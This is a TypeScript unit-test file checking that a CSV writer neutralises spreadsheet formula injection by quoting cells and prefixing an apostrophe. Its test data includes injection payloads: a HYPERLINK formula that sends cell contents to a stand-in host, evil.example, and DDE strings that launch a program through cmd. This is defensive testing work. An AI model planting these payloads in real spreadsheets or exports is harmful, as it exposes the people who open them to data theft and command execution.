import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { guardFormula, parseCsv, unguardFormula, writeCsv } from "../../functions/core/csv";

/** OWASP "CSV Injection": the characters a spreadsheet reads as the start of a formula. */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];

describe("CSV formula injection (OWASP)", () => {
  it("writes a text cell that starts a formula with a leading apostrophe, inside double quotes", () => {
    const text = writeCsv([
      ["name", "note"],
      ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+cmd|' /C calc'!A0"],
      ["-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"],
      ["\t=1+1", "\r=1+1"],
    ]);
    const lines = text.split("\r\n");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")","'+cmd|' /C calc'!A0"`);
    expect(lines[2]).toBe(`"'-2+3+cmd|' /C calc'!A0","'@SUM(1+9)*cmd|' /C calc'!A0"`);
    expect(lines[3]).toBe(`"'\t=1+1","'\r=1+1"`);
    // Every cell of the file begins with a quote and an apostrophe: none can start a formula.
    for (const row of parseCsvRaw(text).slice(1)) for (const cell of row) expect(cell.startsWith(`"'`)).toBe(true);
  });

  it("cannot be fooled by a delimiter or a quote that would start a new cell inside one", () => {
    const text = writeCsv([["a", 'x",=1+1', "y;=2+2", "z,@SUM(1)"]]);
    expect(parseCsv(text).map((r) => r.cells)).toEqual([["a", 'x",=1+1', "y;=2+2", "z,@SUM(1)"]]);
    expect(text).toBe(`a,"x"",=1+1","y;=2+2","z,@SUM(1)"\r\n`);
  });

  it("leaves numbers and harmless text alone", () => {
    expect(writeCsv([[-5, 12, "Đăng ký khai sinh", "1.001193", "'quoted"]])).toBe("-5,12,Đăng ký khai sinh,1.001193,'quoted\r\n");
  });

  it("takes the guard off on reading, so an export reads back as it was, apostrophes included", () => {
    expect(unguardFormula(guardFormula("=1+1"))).toBe("=1+1");
    expect(guardFormula("'=1+1")).toBe("''=1+1");
    expect(unguardFormula("''=1+1")).toBe("'=1+1");
    expect(unguardFormula("'x")).toBe("'x");
    const cell = fc.string({ unit: fc.constantFrom("'", ...FORMULA_STARTS, "a", "Đ", ",", ";", '"', "\n", " "), maxLength: 8 });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const table = rows.map((row) => ["k", ...row]);
        const text = writeCsv(table, { bom: true });
        // (The reader keeps a CRLF inside a cell as a line feed.)
        expect(parseCsv(text).map((r) => r.cells)).toEqual(table.map((row) => row.map((c) => c.replace(/\r\n/g, "\n"))));
        // …and no cell of the file, as a spreadsheet reads it, starts a formula.
        for (const line of parseCsvRaw(text)) for (const raw of line) expect(FORMULA_STARTS).not.toContain(unquote(raw)[0]);
      }),
      { numRuns: 500 },
    );
  });
});

/** The cells of a CSV text as written (quotes kept), split the way RFC 4180 splits them. */
function parseCsvRaw(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = text.startsWith("\uFEFF") ? 1 : 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      cell += ch;
      if (ch === '"') {
        if (text[i + 1] === '"') cell += text[++i];
        else quoted = false;
      }
    } else if (ch === '"') {
      quoted = true;
      cell += ch;
    } else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  return rows;
}

const unquote = (raw: string) => (raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
